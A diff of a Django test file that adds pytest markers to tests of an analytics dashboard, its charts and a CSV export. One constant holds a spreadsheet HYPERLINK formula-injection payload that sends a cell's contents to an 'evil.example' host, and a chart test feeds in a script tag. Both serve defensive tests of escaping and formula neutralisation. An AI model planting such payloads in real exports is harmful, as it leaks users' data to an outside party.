@@ -82,6 +82,7 @@ def known_log(db: None) -> dict[str, Persona]:
 # --- the numbers ------------------------------------------------------------------------------
 
 
+@pytest.mark.unit
 def test_percentile_interpolates_between_ranks() -> None:
     values = [float(v) for v in range(1, 101)]
     assert percentile(values, 50) == pytest.approx(50.5)
@@ -90,6 +91,8 @@ def test_percentile_interpolates_between_ranks() -> None:
     assert percentile([], 50) is None
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_gateway_stats_totals(known_log: dict[str, Persona]) -> None:
     stats = gateway_stats(since=DAY, until=at(24), bucket="hour")
 
@@ -105,6 +108,8 @@ def test_gateway_stats_totals(known_log: dict[str, Persona]) -> None:
     assert stats.ttft_p95 == pytest.approx(480)  # 400 + 0.8 * (500 - 400)
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_gateway_stats_hourly_buckets_fill_the_range(known_log: dict[str, Persona]) -> None:
     stats = gateway_stats(since=DAY, until=at(24), bucket="hour")
 
@@ -118,6 +123,8 @@ def test_gateway_stats_hourly_buckets_fill_the_range(known_log: dict[str, Person
     assert by_hour[3].requests == 0 and by_hour[3].ttft_p50 is None
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_gateway_stats_daily_buckets(known_log: dict[str, Persona]) -> None:
     stats = gateway_stats(since=at(-24), until=at(48))
 
@@ -125,6 +132,8 @@ def test_gateway_stats_daily_buckets(known_log: dict[str, Persona]) -> None:
     assert [(b.start, b.requests) for b in stats.buckets] == [(at(-24), 1), (DAY, 8), (at(24), 1)]
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_gateway_stats_breakdowns(known_log: dict[str, Persona]) -> None:
     stats = gateway_stats(since=DAY, until=at(24))
 
@@ -147,6 +156,8 @@ def test_gateway_stats_breakdowns(known_log: dict[str, Persona]) -> None:
     assert models["@cf/meta/llama-3.1-8b-instruct"].label != "@cf/meta/llama-3.1-8b-instruct"  # catalog name
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_gateway_stats_leaves_previews_out_unless_asked(known_log: dict[str, Persona]) -> None:
     stats = gateway_stats(since=DAY, until=at(24), include_previews=True)
 
@@ -154,6 +165,8 @@ def test_gateway_stats_leaves_previews_out_unless_asked(known_log: dict[str, Per
     assert stats.ttft_p95 == pytest.approx(500 + 0.75 * (10_000 - 500))
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_gateway_stats_of_an_empty_range(db: None) -> None:
     stats = gateway_stats(since=DAY, until=at(24))
 
@@ -161,6 +174,7 @@ def test_gateway_stats_of_an_empty_range(db: None) -> None:
     assert stats.cost_usd == 0 and len(stats.buckets) == 24
 
 
+@pytest.mark.unit
 def test_range_form_validates_custom_ranges() -> None:
     form = StatsRangeForm({"range": "custom", "start": "2025-01-10", "end": "2025-01-01"})
     assert not form.is_valid()
@@ -178,6 +192,7 @@ def test_range_form_validates_custom_ranges() -> None:
     assert default.is_valid() and default.cleaned_data["range"] == "24h"
 
 
+@pytest.mark.unit
 def test_parse_since() -> None:
     now = DAY
     assert parse_since("24h", now=now) == at(-24)
@@ -190,6 +205,7 @@ def test_parse_since() -> None:
 # --- charts ------------------------------------------------------------------------------------
 
 
+@pytest.mark.unit
 def test_nice_ceiling_steps() -> None:
     assert nice_ceiling(0) == (1.0, 0.25)
     assert nice_ceiling(7) == (8, 2)
@@ -197,6 +213,7 @@ def test_nice_ceiling_steps() -> None:
     assert nice_ceiling(0.0031) == pytest.approx((0.004, 0.001))
 
 
+@pytest.mark.unit
 def test_charts_escape_their_text() -> None:
     svg = bar_list(title="Errors <by> code", desc="a & b", rows=[("<script>x</script>", 3)], tone="bar")
 
@@ -225,6 +242,8 @@ def _kpis(html: str) -> dict[str, str]:
     return {label: value for label, value in tiles}
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_analytics_page_renders_numbers_and_charts(admin_client: Client, recent_log: None) -> None:
     response = admin_client.get(ANALYTICS)
 
@@ -242,6 +261,44 @@ def test_analytics_page_renders_numbers_and_charts(admin_client: Client, recent_
     assert "Alan Watts" in html and "Llama 3.1 8B" in html  # by persona, by model
 
 
+def _rows(html: str, table: str) -> dict[str, list[str]]:
+    """A table of the analytics page: each row's heading and its cells' text."""
+    body = html.split(f'data-testid="{table}"')[1].split("</table>")[0]
+
+    def text(part: str) -> str:
+        return " ".join(re.sub(r"<[^>]+>", " ", part).split())
+
+    return {
+        text(heading): [text(cell) for cell in re.findall(r"<td[^>]*>(.*?)</td>", cells, re.S)]
+        for heading, cells in re.findall(r'<th scope="row">(.*?)</th>(.*?)</tr>', body, re.S)
+    }
+
+
+@pytest.mark.integration
+def test_analytics_page_shows_zero_and_tiny_costs_as_sums(admin_client: Client, db: None) -> None:
+    """A free model's cost reads `$0` and cents' hundredths keep their digits, on the card, in
+    the persona and model tables and on the cost chart's axis, whose ticks all differ. They read
+    `$0.` (a tiny sum printed to four places, then its zeros stripped)."""
+    now, llama = timezone.now(), "@cf/meta/llama-3.2-1b-instruct"
+    watts, ada = Persona.objects.get(slug="alan-watts"), Persona.objects.get(slug="ada-lovelace")
+    for minutes, cost in ((5, "0.00001"), (65, "0.00003")):  # two hours' bars
+        log(watts, now - dt.timedelta(minutes=minutes), model=llama, cost_usd=Decimal(cost))
+    log(ada, now - dt.timedelta(minutes=5), backend="local", model="gemma-3-270m", cost_usd=Decimal(0))
+
+    html = admin_client.get(ANALYTICS).content.decode()
+
+    assert _kpis(html)["Estimated cost"] == "$0.00004"
+    persona_cost = {key: cells[5] for key, cells in _rows(html, "by-persona").items()}
+    assert persona_cost == {"Alan Watts alan-watts": "$0.00004", "Ada Lovelace ada-lovelace": "$0"}
+    assert sorted(cells[5] for cells in _rows(html, "by-model").values()) == ["$0", "$0.00004"]
+    chart = html.split("Estimated cost per hour")[1].split("</svg>")[0]
+    ticks = re.findall(r'<text class="pq-tick" x="[^"]+" y="[^"]+" text-anchor="end">([^<]+)</text>', chart)
+    assert len(ticks) >= 4 and len(set(ticks)) == len(ticks), ticks
+    assert ticks[0] == "$0" and all(re.fullmatch(r"\$0\.0*[1-9]\d*", t) for t in ticks[1:]), ticks
+
+
+@pytest.mark.integration
+@pytest.mark.services
 def test_analytics_range_filter_changes_the_numbers(admin_client: Client, recent_log: None) -> None:
     response = admin_client.get(ANALYTICS, {"range": "7d"})
 
@@ -268,6 +325,8 @@ def test_analytics_range_filter_changes_the_numbers(admin_client: Client, recent
     assert "No requests in this range" in earlier.content.decode()
 
 
+@pytest.mark.integration
+@pytest.mark.services
 @pytest.mark.parametrize(
     ("params", "message"),
     [
@@ -292,6 +351,8 @@ def test_analytics_bad_range_is_a_form_error(
     assert "pq-tile" not in html
 
 
+@pytest.mark.integration
+@pytest.mark.services
 @pytest.mark.parametrize(
     "params",
     [
@@ -312,6 +373,8 @@ def test_analytics_hourly_buckets_over_a_month_are_drawn(
     assert 5 <= html.count('class="pq-tick" x=') <= 200  # a few labels per chart, not 744 each
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_analytics_range_at_the_first_days_a_date_holds(admin_client: Client, recent_log: None) -> None:
     """The other end of the calendar: a range in year 1 is a valid, empty range, not a 500."""
     response = admin_client.get(ANALYTICS, {"range": "custom", "start": "0001-01-01", "end": "0001-01-02"})
@@ -320,6 +383,8 @@ def test_analytics_range_at_the_first_days_a_date_holds(admin_client: Client, re
     assert _kpis(response.content.decode())["Requests"] == "0"
 
 
+@pytest.mark.integration
+@pytest.mark.services
 def test_analytics_permissions(client: Client, db: None) -> None:
     editor = User.objects.create_user("editor", password="editor-password-123", is_staff=True)
     editor.groups.add(Group.objects.get(name="Persona editors"))
@@ -338,6 +403,7 @@ def test_analytics_permissions(client: Client, db: None) -> None:
     assert client.get(ANALYTICS).status_code == 200
 
 
+@pytest.mark.integration
 def test_changelist_links_to_analytics_and_export(admin_client: Client, recent_log: None) -> None:
     html = admin_client.get("/admin/quotes/generation/", {"status__exact": "error"}).content.decode()
 
@@ -353,6 +419,7 @@ def _csv(response: Any) -> list[list[str]]:
     return list(csv.reader(io.StringIO(body)))
 
 
+@pytest.mark.integration
 def test_csv_export_streams_the_filtered_changelist(
     admin_client: Client, known_log: dict[str, Persona]
 ) -> None:
@@ -383,6 +450,7 @@ def test_csv_export_streams_the_filtered_changelist(
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&C2,"x")'
 
 
+@pytest.mark.integration
 @pytest.mark.parametrize(
     ("topic", "text"),
     [
@@ -431,6 +499,7 @@ def test_csv_export_cells_are_never_formulas(client: Client, db: None, topic: st
 FORMULA_START = ("=", "+", "-", "@", "|", ";", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c", "\uff1b")
 
 
+@pytest.mark.integration
 @pytest.mark.parametrize("topic", ["rain", " rain", "a=b", "e-mail", "", "  ", "2+2", "\u3000rain"])
 def test_csv_export_leaves_plain_text_as_it_is(admin_client: Client, db: None, topic: str) -> None:
     log(Persona.objects.get(slug="alan-watts"), timezone.now(), topic=topic)
@@ -440,12 +509,14 @@ def test_csv_export_leaves_plain_text_as_it_is(admin_client: Client, db: None, t
     assert dict(zip(header, row, strict=True))["topic"] == topic
 
 
+@pytest.mark.integration
 def test_csv_export_with_a_bad_filter_goes_back_to_the_changelist(admin_client: Client, db: None) -> None:
     response = admin_client.get(EXPORT, {"nonsense__exact": "1"})
 
     assert response.status_code == 302 and response["Location"] == "/admin/quotes/generation/?e=1"
 
 
+@pytest.mark.integration
 @pytest.mark.django_db(transaction=True)
 async def test_csv_export_streams_under_asgi() -> None:
     def setup() -> str:
@@ -478,6 +549,7 @@ async def test_csv_export_streams_under_asgi() -> None:
 # --- manage.py gateway_stats -------------------------------------------------------------------
 
 
+@pytest.mark.integration
 def test_gateway_stats_command_prints_the_kpis(recent_log: None) -> None:
     out = io.StringIO()
     call_command("gateway_stats", stdout=out)
@@ -493,6 +565,7 @@ def test_gateway_stats_command_prints_the_kpis(recent_log: None) -> None:
     assert re.search(r"Requests\s+5\b", out.getvalue())
 
 
+@pytest.mark.integration
 def test_gateway_stats_command_json(recent_log: None) -> None:
     out = io.StringIO()
     call_command("gateway_stats", "--since", "7d", "--json", stdout=out)
@@ -507,11 +580,13 @@ def test_gateway_stats_command_json(recent_log: None) -> None:
     assert data["bucket"] == "day" and len(data["buckets"]) in (7, 8)
 
 
+@pytest.mark.integration
 def test_gateway_stats_command_rejects_a_bad_span(db: None) -> None:
     with pytest.raises(CommandError, match="is not a span"):
         call_command("gateway_stats", "--since", "soon")
 
 
+@pytest.mark.integration
 @pytest.mark.parametrize("since", ["1000000d", "99999999999d", "9999999999999999999999h"])
 def test_gateway_stats_command_rejects_a_span_past_the_calendar(db: None, since: str) -> None:
     """A span reaching back before year 1, or past what a timedelta holds, was an OverflowError."""
